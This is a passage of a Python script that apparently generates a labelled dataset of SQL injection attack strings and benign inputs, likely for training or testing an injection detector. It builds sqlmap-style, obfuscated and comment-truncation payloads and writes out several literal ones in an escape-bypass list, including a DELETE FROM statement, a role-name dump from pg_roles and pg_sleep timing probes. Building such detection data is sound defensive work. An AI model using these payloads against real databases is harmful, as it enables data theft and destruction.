                                    "SELECT numrange(%d.5, %d.5) && numrange(%d, %d)" % (lo, hi, r.randint(0, 30), r.randint(31, 70))]))
    for _ in range(8):
        add("window", "SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten %s) FROM tenk1 WHERE unique2 < %d" % (r.choice(["ROWS BETWEEN 1 PRECEDING AND 1 FOLLOWING", "RANGE UNBOUNDED PRECEDING", "GROUPS 1 PRECEDING"]), r.randint(5, 30)))
    return out


# ---------------------------------------------------------------- assembly
DBMS_WEIGHT = {"PostgreSQL": 40, "generic": 22, "MySQL": 19}
SQLMAP_FAMILIES = ["sqlmap_time_blind", "sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query", "sqlmap_union_query"]


def typed_value(r, default):
    """A benign value of the same shape as a typed slot's default."""
    d = default
    if re.fullmatch(r"\d{4}-\d\d-\d\d", d):
        return rdate(r, 2020, 2026), "input_formatted"
    if re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d.*", d):
        v = "%s %02d:%02d" % (rdate(r, 2020, 2026), r.randint(0, 23), r.choice([0, 15, 30, 45]))
        return v + r.choice(["", "", "+00", "+01", ":00"]), "input_formatted"
    if re.fullmatch(r"\d\d:\d\d", d):
        return "%02d:%02d" % (r.randint(5, 22), r.choice([0, 15, 30, 45])), "input_formatted"
    if re.fullmatch(r"\d{4}-\d\d", d):
        return "%d-%02d" % (r.randint(2019, 2026), r.randint(1, 12)), "input_formatted"
    if re.fullmatch(r"\d{4}/\d\d", d):
        y = r.randint(2019, 2027)
        return "%d/%02d" % (y, (y + 1) % 100), "input_formatted"
    if re.fullmatch(r"\d+", d):
        return str(r.randint(1, 400)), "input_numeric_string"
    if re.fullmatch(r"\d+(,\d+)*", d):
        return ",".join(str(x) for x in sorted(r.sample([11, 12, 13, 14, 21, 22, 26, 31, 36, 37, 41, 46, 47, 48], r.randint(1, 4)))), "input_numeric_string"
    return "%d %s" % (r.randint(1, 90), r.choice(["minutes", "hours", "days", "mins"])), "input_formatted"


def main():
    rng = random.Random(SEED)
    corpus = SlotCorpus(rng, load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, opts_safe(TAG))
    pairs, attack, benign = corpus.pairs, corpus.attack, corpus.benign

    def quoted_orig(si, orig):
        return q(orig) if si["type"] in ("q", "e") else orig

    string_payloads = corpus.payloads      # (payload, variant) for escaped rows

    def pick_test(fam, vector):
        tests = [t for t in sqlmap_tests(rng, vector) if t[2] == fam]
        groups = {}
        for t in tests:
            groups.setdefault(t[1], []).append(t)
        names = sorted(groups)
        weights = [DBMS_WEIGHT.get(n, 19.0 / max(1, len([x for x in names if x not in DBMS_WEIGHT]))) for n in names]
        d = rng.choices(names, weights)[0]
        return rng.choice(groups[d])

    # --- sqlmap techniques
    for fam in SQLMAP_FAMILIES:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 60000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            orig = rng.choice(si["orig"])
            vector = rng.random() < 0.45
            if fam == "sqlmap_union_query":
                title, dbms, P, _ = union_test(rng)
                kind, need = ("neg" if rng.random() < 0.55 else "cond"), rng.random() < 0.85
                mode = "payload"
            elif fam == "sqlmap_stacked_queries" and rng.random() < 0.16:
                title, P = takeover_steps(rng)
                title, dbms, kind, need, mode = "PostgreSQL " + title, "PostgreSQL", "stack", True, "takeover"
            else:
                title, dbms, _, kind, P, need = pick_test(fam, vector)
                mode = "vector" if vector else "payload"
            P = P.replace("[ORIG]", quoted_orig(si, orig))
            pl = sqlmap_wrap(rng, si, orig, kind, P, need, dbms)
            if pl is None:
                continue
            variant = "sqlmap:%s:%s" % (title, mode)
            if rng.random() < 0.2:
                for tname in rng.sample(tamper_choices(dbms, fam), 3):
                    pl2 = tamper(rng, tname, pl, si["type"])
                    if pl2 != pl:
                        pl, variant = pl2, variant + ":tamper=" + tname
                        break
            if attack(tpl, slot, pl, fam, variant, dbms):
                got += 1
                string_payloads.append((pl, "sqlmap:%s" % title))

    # --- hand-written PostgreSQL techniques
    def hand_payload(fam, si, orig):
        name, mode, core = rng.choice(hand_cores(rng)[fam])
        return name, hand_wrap(rng, si, orig, mode, core)

    for fam in HAND_FAMILIES:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 60000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            if fam == "tautology" and si["type"] in ("col", "dir", "ident"):
                continue
            name, pl = hand_payload(fam, si, rng.choice(si["orig"]))
            if pl is None:
                continue
            if attack(tpl, slot, pl, fam, "%s:%s" % (fam, name)):
                got += 1
                string_payloads.append((pl, "%s:%s" % (fam, name)))

    # --- obfuscated variants (hand cores or sqlmap payloads, then reshaped outside literals)
    for fam in OBF_FAMILIES:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 60000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            orig = rng.choice(si["orig"])
            if rng.random() < 0.65:
                base = rng.choice(["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery"])
                if base == "tautology" and si["type"] in ("col", "dir", "ident"):
                    continue
                name, pl = hand_payload(base, si, orig)
                var = "%s:%s:%s" % (fam, base, name)
            else:
                cands = [t for t in sqlmap_tests(rng, False) if t[1] in ("PostgreSQL", "generic") and t[3] in ("cond", "neg", "stack")]
                title, dbms, _, kind, P, need = rng.choice(cands)
                if kind == "stack":
                    pl = hand_wrap(rng, si, orig, "stack", P.lstrip(";"))
                else:
                    pl = hand_wrap(rng, si, orig, "cond", P)
                var = "%s:sqlmap:%s" % (fam, title)
            if pl is None:
                continue
            pl2 = obfuscate(rng, fam, pl, si["type"])
            if pl2 == pl:
                continue
            if attack(tpl, slot, pl2, fam, var):
                got += 1

    # --- comment truncation: close the slot and comment out the rest of the statement
    got = tries = 0
    while got < ATTACK_TARGET["comment_truncation"] and tries < 60000:
        tries += 1
        tpl, slot = rng.choice(pairs)
        si = slot_info(tpl, slot)
        if not si["tail_means"] or si["prev_word"] in ("BETWEEN", "SYMMETRIC") or (si["lead"] == "WITH" and si["depth"]):
            continue
        typ = si["type"]
        orig = rng.choice(si["orig"] + (["admin", "", "root"] if typ in ("q", "e") else []))
        style, c = rng.choice([("dashdash", "--"), ("dashdash_space", "-- "), ("dashdash_word", "-- " + rword(rng, 4)), ("dashdash_dash", "-- -"),
                               ("block_unterminated", "/*"), ("semicolon_dashdash", ";--"), ("dashdash_plus", "--+"), ("block_then_dash", "/**/--"),
                               ("semicolon_dashdash_space", "; -- ")])
        if typ in STRING_TYPES:
            close = si["hand_close"] if si["hand_close"] is not None else CLOSER[typ] + (si["closers"] if rng.random() < 0.85 else "")
            pl = orig + close + rng.choice(["", " "]) + c
        elif typ in ("n", "list", "bool"):
            close = si["hand_close"] if si["hand_close"] is not None else (si["closers"] if si["closers"] and rng.random() < 0.6 else "")
            pl = orig + close + rng.choice(["", " "]) + c
        else:
            pl = orig + rng.choice(["", " "]) + c
        if attack(tpl, slot, pl, "comment_truncation", "comment_truncation:%s" % style, need_tail=True):
            got += 1
            string_payloads.append((pl, "comment_truncation:%s" % style))

    # --- escape bypass: the application escapes quotes the wrong way for its literal
    corpus.escape_bypass([("e_string_quote_doubling", "t10_leak_report", "d", "\\', 5); DELETE FROM leak_reports;--", double_quotes),
                          ("e_string_quote_doubling", "t10_leak_report", "d", "\\' || (SELECT string_agg(rolname, ',') FROM pg_roles), 1)--", double_quotes),
                          ("std_string_backslash_quote", "t10_dog_licence", "b", "Biscuit') OR 1=1--", backslash_quotes),
                          ("std_string_backslash_quote", "t10_app_name", "a", "x'; SELECT pg_sleep(5)--", backslash_quotes),
                          ("std_string_backslash_quote", "t10_locker_free", "a", "LKR-LEITH' AND 1=CAST(version() AS int)--", backslash_quotes),
                          ("e_string_quote_doubling", "t10_leak_report", "d", "\\', 1); SELECT pg_sleep(7)--", double_quotes)])

    # ---------------- benign
    str_pairs = [(t, k) for t, k in pairs if t[2][k][0] in STRING_TYPES and opts(t, k) != "typed"]
    typed_pairs = [(t, k) for t, k in pairs if opts(t, k) == "typed"]
    num_pairs = [(t, k) for t, k in pairs if t[2][k][0] in ("n", "list")]
    id_pairs = [(t, k) for t, k in pairs if t[2][k][0] in ("col", "dir", "ident")]

    for fam, target in INPUT_TARGET.items():
        got = tries = 0
        while got < target and tries < 60000:
            tries += 1
            if fam == "input_numeric":
                tpl, slot = rng.choice(num_pairs)
                if tpl[2][slot][0] == "list":
                    val = rng.choice([", ", ","]).join(str(rng.randint(1, 9)) for _ in range(rng.randint(1, 5)))
                else:
                    val = rng.choice([str(rng.randint(0, 9999)), str(rng.randint(1, 48)), "%d.%d" % (rng.randint(0, 400), rng.randint(0, 9)),
                                      "-%d" % rng.randint(1, 90), "%.3f" % rng.uniform(0, 60), str(rng.randint(10 ** 5, 10 ** 9))])
            elif fam == "input_identifier":
                tpl, slot = rng.choice(id_pairs)
                typ = tpl[2][slot][0]
                val = rng.choice(tpl[2][slot][1] + (CANON[typ] if typ == "dir" else []))
            elif fam in ("input_formatted", "input_numeric_string") and rng.random() < 0.45:
                tpl, slot = rng.choice(typed_pairs)
                val, f2 = typed_value(rng, rng.choice(tpl[2][slot][1]))
                if f2 != fam:
                    continue
            else:
                tpl, slot = rng.choice(str_pairs)
                typ = tpl[2][slot][0]
                if typ == "qi" and fam not in ("input_plain", "input_formatted", "input_unicode", "input_apostrophe_names", "input_sql_words"):
                    continue
                if fam == "input_long_text":
                    val = " ".join(rng.sample(SENTS, rng.randint(2, 4)))
                elif fam == "input_formatted" and rng.random() < 0.5:
                    val = rng.choice(["%s-%06d" % (rword(rng, 2, upper=True), rng.randint(0, 999999)), "%08X" % rng.getrandbits(32),
                                      "%s%d %d%s" % (rword(rng, 2, upper=True), rng.randint(1, 30), rng.randint(1, 9), rword(rng, 2, upper=True)),
                                      "+44 7%03d %06d" % (rng.randint(0, 999), rng.randint(0, 999999)), "%064x" % rng.getrandbits(256),
                                      "%d.%d.%d.%d" % (rng.choice([10, 172, 192]), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)),
                                      "%02d/%02d/%d" % (rng.randint(1, 28), rng.randint(1, 12), rng.randint(2019, 2026))])
                elif fam == "input_plain" and rng.random() < 0.5:
                    val = rng.choice(POOLS["input_plain"]).split()[0] + " " + rng.choice(POOLS["input_plain"]).split()[-1]
                else:
                    val = rng.choice(POOLS[fam])
            if benign(tpl, slot, val, fam, "benign:" + fam[6:]):
                got += 1
    corpus.escaped(str_pairs, tries=60000)
    corpus.complex(complex_gens(), tries=6000)
    corpus.regress(regress_rows(rng))
    corpus.write(HERE, "t10-%06d", "tenth")


if __name__ == "__main__":
    main()
